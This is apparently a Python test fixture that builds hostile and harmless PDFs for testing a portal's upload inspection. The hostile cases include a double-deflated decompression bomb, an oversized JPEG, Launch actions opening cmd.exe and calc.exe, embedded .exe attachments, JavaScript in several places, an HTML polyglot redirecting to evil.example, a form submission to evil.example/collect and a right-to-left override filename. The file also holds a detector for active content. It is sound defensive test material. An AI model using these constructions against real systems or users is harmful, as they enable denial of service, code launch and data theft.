"""Hostile and harmless PDFs, built by code, for the upload checks (portal.pdf_inspection) and the upload forms.

API (other test modules import it; keep it stable):

- `plain_pdf(pages=1, text=...)`: bytes of a clean PDF of A4 pages, each with a line of text naming its number.
- `HOSTILE_CORPUS`: a list of `HostileCase` (name, filename, build, refused, removed, served_name). `case.content`
  builds the bytes once. `refused` is the expected `PdfRefused.code` (None when the file is stored cleaned);
  `removed` the expected `PdfFindings.removed` codes of a cleaned file, in `REMOVED_CODES` order.
  `CORPUS_BY_NAME` finds a case by its name.
- `active_content(pdf)`: for a pikepdf.Pdf, a list of descriptions of anything active or hidden left in it
  (empty for a safe file). It looks at every object in the file, independently of the cleaning code.
- `outside_the_pdf(data)`: bytes before the header or after the last %%EOF (a polyglot's other half), or b"".
"""

import functools
import io
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

import pikepdf
from pikepdf import Array, Dictionary, Name, String

DEFAULT_TEXT = "Strategie des Bündnisses"
A4 = (595, 842)


def _save(pdf, **options):
    buffer = io.BytesIO()
    if "encryption" not in options:
        # Streams are written as built: qpdf would otherwise re-encode them (and inflate a bomb on the way).
        options.update(stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    pdf.save(buffer, static_id=True, **options)
    return buffer.getvalue()


def _text_stream(lines):
    operators = ["BT", "/F1 12 Tf", "14 TL", "72 770 Td"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        operators.append(f"({escaped}) '")
    operators.append("ET")
    return "\n".join(operators).encode("cp1252")


def _new_plain_pdf(pages, text=DEFAULT_TEXT):
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
    )
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=A4)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        lines = [f"{text}, Seite {number} von {pages}", "Ziele, Maßnahmen und Meilensteine des Bündnisses."]
        page.obj.Contents = pdf.make_stream(zlib.compress(_text_stream(lines)), Filter=Name.FlateDecode)
    pdf.docinfo[Name.Title] = text
    return pdf


@functools.lru_cache(maxsize=16)
def plain_pdf(pages=1, text=DEFAULT_TEXT):
    """A clean PDF of `pages` A4 pages with one line of text per page."""
    return _save(_new_plain_pdf(pages, text))


def _edited(edit, pages=2):
    """A plain PDF changed by edit(pdf, first_page_dictionary)."""
    pdf = _new_plain_pdf(pages)
    edit(pdf, pdf.pages[0].obj)
    return _save(pdf)


def _add_annotation(pdf, page, **entries):
    annotation = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([72, 700, 300, 720]), **entries))
    page.Annots = Array([*page.get("/Annots", Array()), annotation])
    return annotation


def _raw_pdf(objects):
    """Hand-written bytes of a PDF whose object i + 1 is objects[i] (object 1 is the catalog), with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


# --- Page boxes and size ------------------------------------------------------------------------------------------


def zero_mediabox():
    return _edited(lambda pdf, page: page.__setitem__("/MediaBox", Array([0, 0, 0, 0])))


def negative_mediabox():
    return _edited(lambda pdf, page: page.__setitem__("/MediaBox", Array([0, 0, -595, -842])))


def inherited_absurd_mediabox():
    """The pages inherit a 100,000 pt MediaBox from the page tree (the PDF limit is 14,400 pt)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 100000 100000] >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << >> >>",
        b"<< /Length 8 >>\nstream\n0 0 m S\n\nendstream",
    ]
    return _raw_pdf(objects)


def zero_cropbox():
    return _edited(lambda pdf, page: page.__setitem__("/CropBox", Array([100, 100, 100, 400])))


def ten_thousand_pages():
    """10,000 pages sharing one content stream: small to upload, far past any page limit."""
    count = 10_000
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    content_number = count + 3
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources << >> >>"
    objects += [page % content_number] * count
    objects.append(b"<< /Length 8 >>\nstream\n0 0 m S\n\nendstream")
    return _raw_pdf(objects)


def _deflated_zeros(mib):
    """zlib data of `mib` MiB of zeros, built from one repeated deflate block (a full flush resets the compressor,
    so every further MiB deflates to the same bytes)."""
    chunk = bytes(1024 * 1024)
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflater.compress(chunk) + deflater.flush(zlib.Z_FULL_FLUSH)
    repeated = deflater.compress(chunk) + deflater.flush(zlib.Z_FULL_FLUSH)
    checksum = ((mib * len(chunk)) % 65521) << 16 | 1  # Adler-32 of n zero bytes: a = 1, b = n mod 65521
    body = first + repeated * (mib - 1) + deflater.flush()
    return b"\x78\xda" + body + checksum.to_bytes(4, "big")


@functools.lru_cache(maxsize=4)
def flate_bomb(decoded_mib=320, filters=(Name.FlateDecode, Name.FlateDecode)):
    """A content stream of `decoded_mib` MiB of zeros, deflated twice: a few kilobytes on disk. Extra `filters`
    after the two FlateDecodes make a reader hold the whole inflated data in memory before the next one."""
    twice = zlib.compress(_deflated_zeros(decoded_mib), 9)

    def edit(pdf, page):
        bomb = pdf.make_stream(b"")
        bomb.write(twice, filter=Array(list(filters)))
        page.Contents = Array([page.Contents, bomb])

    return _edited(edit)


def image_raster_bomb():
    """A JPEG image that claims 65,000 by 65,000 pixels: a few bytes that a renderer would blow up to 12 GB."""

    def edit(pdf, page):
        image = pdf.make_stream(
            b"\xff\xd8\xff\xdb" + bytes(64) + b"\xff\xd9",
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=65000,
            Height=65000,
            ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=Name.DCTDecode,
        )
        page.Resources.XObject = Dictionary(Im1=image)
        page.Contents = pdf.make_stream(b"q 100 0 0 100 72 72 cm /Im1 Do Q")

    return _edited(edit)


# --- Active and hidden content ------------------------------------------------------------------------------------


def open_action_javascript():
    def edit(pdf, page):
        pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('Sie wurden gehackt');"))

    return _edited(edit)


def launch_link():
    def edit(pdf, page):
        action = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c")))
        _add_annotation(pdf, page, Subtype=Name.Link, A=action)

    return _edited(edit)


def embedded_exe():
    """A setup.exe in the EmbeddedFiles name tree and a second one behind a FileAttachment annotation."""

    def edit(pdf, page):
        program = b"MZ\x90\x00\x03\x00\x00\x00" + b"This program cannot be run in DOS mode." * 10
        pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, program, mime_type="application/x-msdownload")
        attached = pikepdf.AttachedFileSpec(pdf, program, filename="rechnung.exe")
        _add_annotation(pdf, page, Subtype=Name.FileAttachment, FS=attached.obj, Contents=String("Rechnung"))

    return _edited(edit)


def html_polyglot():
    """HTML with a script before the PDF header (within the first 1024 bytes) and after %%EOF."""
    before = b"<html><body><script>alert('polyglot')</script><!--\n"
    after = b"\n--><script>document.location='https://evil.example/'</script></body></html>\n"
    return before + plain_pdf(2) + after


def _encrypted(revision, aes):
    pdf = _new_plain_pdf(2)
    return _save(pdf, encryption=pikepdf.Encryption(owner="besitzer", user="", R=revision, aes=aes, metadata=aes))


def encrypted_rc4():
    """RC4 (128 bit), empty user password: opens without asking, still encrypted."""
    return _encrypted(4, aes=False)


def encrypted_aes():
    """AES-256, empty user password."""
    return _encrypted(6, aes=True)


def truncated():
    """Cut off inside the page tree: no xref, no trailer, no pages."""
    data = plain_pdf(3)
    return data[: data.index(b"/Kids") + 3]


def broken_xref():
    """Every xref offset is wrong; qpdf rebuilds the table, so the file is accepted and stored repaired."""
    data = plain_pdf(2)
    head, _xref, tail = data.partition(b"\nxref\n")
    body = tail.split(b"trailer", 1)[1]
    return head + b"\nxref\n0 1\n0000000000 65535 f \ntrailer" + body.replace(b"startxref\n", b"startxref\n1")


def zip_named_pdf():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("strategie.docx", "Kein PDF")
    return buffer.getvalue()


def html_named_pdf():
    return b"<!DOCTYPE html><html><body><script>alert(1)</script>Strategie</body></html>\n"


def svg_document():
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'


def xfa_form():
    def edit(pdf, page):
        xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
        pdf.Root.NeedsRendering = True

    return _edited(edit)


def rich_media():
    def edit(pdf, page):
        flash = pikepdf.AttachedFileSpec(pdf, b"FWS\x0a" + bytes(40), filename="film.swf")
        content = Dictionary(Assets=Dictionary(Names=Array([String("film.swf"), flash.obj])))
        _add_annotation(pdf, page, Subtype=Name.RichMedia, RichMediaContent=content)

    return _edited(edit)


def javascript_uri():
    def edit(pdf, page):
        _add_annotation(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("java\tscript:alert(1)")))

    return _edited(edit)


def file_and_data_uris():
    def edit(pdf, page):
        _add_annotation(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///C:/Windows/")))
        _add_annotation(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("data:text/html,<b>x</b>")))
        _add_annotation(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("\\\\server\\share")))

    return _edited(edit)


def submit_form():
    def edit(pdf, page):
        target = Dictionary(FS=Name.URL, F=String("https://evil.example/collect"))
        _add_annotation(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=target, Flags=4))

    return _edited(edit)


def import_data_and_remote_goto():
    def edit(pdf, page):
        _add_annotation(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("daten.fdf")))
        _add_annotation(
            pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("//server/x.pdf"), D=Array([0, Name.Fit]))
        )

    return _edited(edit)


def page_additional_actions():
    def edit(pdf, page):
        page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("this.print();")))
        pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.Launch, F=String("calc.exe")))

    return _edited(edit)


def javascript_everywhere():
    """JavaScript in the name tree, in an outline item, and behind a harmless link's /Next chain."""

    def edit(pdf, page):
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), pdf.make_indirect(script)])))
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Kapitel 1", 0))
        first = pdf.Root.Outlines.First
        first.A = Dictionary(S=Name.JavaScript, JS=String("app.alert(2)"))
        del first["/Dest"]
        go_to = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=Dictionary(script))
        _add_annotation(pdf, page, Subtype=Name.Link, A=go_to)

    return _edited(edit)


def web_link_and_goto():
    """Harmless: an https link, an in-document jump and a page-navigation Named action, all kept."""

    def edit(pdf, page):
        _add_annotation(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.bmbf.de/")))
        _add_annotation(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))
        _add_annotation(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.Named, N=Name.NextPage))
        pdf.Root.OpenAction = Array([page, Name.Fit])

    return _edited(edit)


def clean_five_pages():
    return plain_pdf(5)


# --- The corpus ---------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class HostileCase:
    """One file: `refused` is the expected PdfRefused code, or None and `removed` the expected removed codes."""

    name: str
    filename: str
    build: Callable[[], bytes] = field(repr=False)
    refused: str | None = None
    removed: tuple[str, ...] = ()
    served_name: str = ""

    @property
    def content(self):
        return _content_of(self.build)

    @property
    def stored(self):
        return self.refused is None


@functools.lru_cache(maxsize=64)
def _content_of(build):
    return build()


def _name(filename):
    stem = filename.rpartition(".")[0] or filename
    return "".join(ch for ch in stem if ch not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") + ".pdf"


def _case(name, filename, build, *, refused=None, removed=()):
    return HostileCase(name, filename, build, refused, tuple(removed), _name(filename))


HOSTILE_CORPUS = [
    _case("zero_mediabox", "budget.pdf", zero_mediabox, refused="page_box"),
    _case("negative_mediabox", "budget.pdf", negative_mediabox, refused="page_box"),
    _case("inherited_absurd_mediabox", "plakat.pdf", inherited_absurd_mediabox, refused="page_box"),
    _case("zero_cropbox", "budget.pdf", zero_cropbox, refused="page_box"),
    _case("flate_bomb", "anlage.pdf", flate_bomb, refused="bomb"),
    _case("image_raster_bomb", "foto.pdf", image_raster_bomb, refused="bomb"),
    _case("ten_thousand_pages", "anlage.pdf", ten_thousand_pages, refused="too_many_pages"),
    _case("open_action_javascript", "strategie.pdf", open_action_javascript, removed=("open_action", "javascript")),
    _case("launch_link", "strategie.pdf", launch_link, removed=("launch",)),
    _case("embedded_exe", "strategie.pdf", embedded_exe, removed=("embedded_file",)),
    _case("html_polyglot", "bericht.html", html_polyglot),
    _case("encrypted_rc4", "strategie.pdf", encrypted_rc4, refused="encrypted"),
    _case("encrypted_aes", "strategie.pdf", encrypted_aes, refused="encrypted"),
    _case("truncated", "strategie.pdf", truncated, refused="damaged"),
    _case("broken_xref", "strategie.pdf", broken_xref),
    _case("zip_named_pdf", "strategie.pdf", zip_named_pdf, refused="not_pdf"),
    _case("html_named_pdf", "strategie.pdf", html_named_pdf, refused="not_pdf"),
    _case("svg_document", "grafik.svg", svg_document, refused="not_pdf"),
    _case("pdf_named_html", "bericht.html", clean_five_pages),
    _case("pdf_named_exe", "setup.exe", clean_five_pages),
    _case("pdf_named_svg", "grafik.svg", clean_five_pages),
    _case("rtl_override_name", "rechnung\u202efdp.exe", clean_five_pages),
    _case("xfa_form", "formular.pdf", xfa_form, removed=("xfa",)),
    _case("rich_media", "film.pdf", rich_media, removed=("rich_media",)),
    _case("javascript_uri", "strategie.pdf", javascript_uri, removed=("link_scheme",)),
    _case("file_and_data_uris", "strategie.pdf", file_and_data_uris, removed=("link_scheme",)),
    _case("submit_form", "formular.pdf", submit_form, removed=("submit_form",)),
    _case(
        "import_data_and_remote_goto",
        "formular.pdf",
        import_data_and_remote_goto,
        removed=("import_data", "remote_goto"),
    ),
    _case(
        "page_additional_actions",
        "strategie.pdf",
        page_additional_actions,
        removed=("additional_actions", "javascript", "launch"),
    ),
    _case("javascript_everywhere", "strategie.pdf", javascript_everywhere, removed=("javascript",)),
    _case("web_link_and_goto", "strategie.pdf", web_link_and_goto),
    _case("clean_five_pages", "strategie.pdf", clean_five_pages),
]
CORPUS_BY_NAME = {case.name: case for case in HOSTILE_CORPUS}


# --- Checks on a stored copy --------------------------------------------------------------------------------------

_ACTIVE_ACTIONS = {
    "/JavaScript",
    "/Launch",
    "/SubmitForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
    "/GoToDp",
    "/Rendition",
    "/Sound",
    "/Movie",
    "/Hide",
    "/SetOCGState",
    "/ResetForm",
    "/GoTo3DView",
    "/RichMediaExecute",
}
_ACTIVE_ANNOTATIONS = {"/FileAttachment", "/RichMedia", "/3D", "/Screen", "/Movie", "/Sound"}
_ANNOTATION_PAYLOAD = {"/FS", "/RichMediaContent", "/RichMediaSettings", "/3DD", "/Movie", "/Sound", "/A", "/AA"}


def _uri_is_web(value):
    text = bytes(value).decode("latin-1") if isinstance(value, pikepdf.String) else str(value)
    compact = "".join(ch for ch in text if ord(ch) > 32)
    return compact.lower().startswith(("http://", "https://"))


def _name(value):
    try:
        return str(value) if isinstance(value, pikepdf.Name) else ""
    except UnicodeDecodeError:
        return "?"


def _describe(obj):
    found = []
    keys = set(obj.keys())
    kind = _name(obj.get("/S"))
    if "/AA" in keys:
        found.append("additional actions (/AA)")
    if "/JS" in keys:
        found.append("JavaScript code (/JS)")
    is_action = _name(obj.get("/Type")) in {"", "/Action"}
    if is_action and kind in _ACTIVE_ACTIONS and keys - {"/S", "/Type"}:
        found.append(f"action {kind}")
    if is_action and kind == "/URI" and "/URI" in keys and not _uri_is_web(obj.get("/URI")):
        found.append(f"link to {bytes(obj.get('/URI'))!r}")
    if (
        is_action
        and kind == "/Named"
        and "/N" in keys
        and _name(obj.get("/N")) not in {"/NextPage", "/PrevPage", "/FirstPage", "/LastPage"}
    ):
        found.append(f"named action {obj.get('/N')}")
    if "/EF" in keys or "/RF" in keys:
        found.append("embedded file (/EF)")
    if "/EmbeddedFiles" in keys or "/JavaScript" in keys and "/Type" not in keys:
        found.append("name tree of embedded files or scripts")
    if "/Collection" in keys:
        found.append("portfolio (/Collection)")
    if "/XFA" in keys:
        found.append("XFA form")
    if _name(obj.get("/Subtype")) in _ACTIVE_ANNOTATIONS and keys & _ANNOTATION_PAYLOAD:
        found.append(f"annotation {obj.get('/Subtype')} with its content")
    annotations = obj.get("/Annots") if isinstance(obj.get("/Annots"), pikepdf.Array) else ()
    found += [
        f"annotation {annotation.get('/Subtype')} on a page"
        for annotation in annotations
        if isinstance(annotation, pikepdf.Dictionary) and _name(annotation.get("/Subtype")) in _ACTIVE_ANNOTATIONS
    ]
    if _name(obj.get("/Type")) == "/EmbeddedFile" and isinstance(obj, pikepdf.Stream) and obj.read_raw_bytes():
        found.append("embedded file stream")
    return found


def active_content(pdf):
    """Descriptions of everything active or hidden in `pdf` (a pikepdf.Pdf): empty for a safe file."""
    found = []
    opening = pdf.Root.get("/OpenAction")
    if isinstance(opening, pikepdf.Dictionary) and _name(opening.get("/S")) != "/GoTo":
        found.append(f"open action {opening.get('/S')}")
    for item in pdf.objects:
        pending = [item]
        while pending:
            current = pending.pop()
            if isinstance(current, pikepdf.Dictionary | pikepdf.Stream):
                found += [f"object {item.objgen}: {text}" for text in _describe(current)]
                children = list(current.values())
            elif isinstance(current, pikepdf.Array):
                children = list(current)
            else:
                continue
            pending += [
                child
                for child in children
                if isinstance(child, pikepdf.Dictionary | pikepdf.Array | pikepdf.Stream) and not child.is_indirect
            ]
    return found


def outside_the_pdf(data):
    """The bytes before %PDF- and after the last %%EOF line: empty for a file that is only a PDF."""
    start = data.find(b"%PDF-")
    end = data.rfind(b"%%EOF")
    if start < 0 or end < 0:
        return data
    return data[:start] + data[end + len(b"%%EOF") :].strip(b"\r\n")
